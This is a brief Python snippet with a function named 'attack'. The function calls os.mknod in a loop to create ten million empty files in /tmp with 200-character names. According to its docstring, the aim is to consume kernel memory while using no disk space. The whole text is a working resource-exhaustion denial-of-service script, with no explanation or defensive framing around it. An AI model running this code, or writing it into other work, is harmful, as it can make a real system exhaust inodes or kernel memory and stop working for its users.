"""Makes files without content, which take the kernel's memory and no room."""

import os


def attack(x):
    for number in range(10_000_000):
        os.mknod(f"/tmp/{number:0200}")
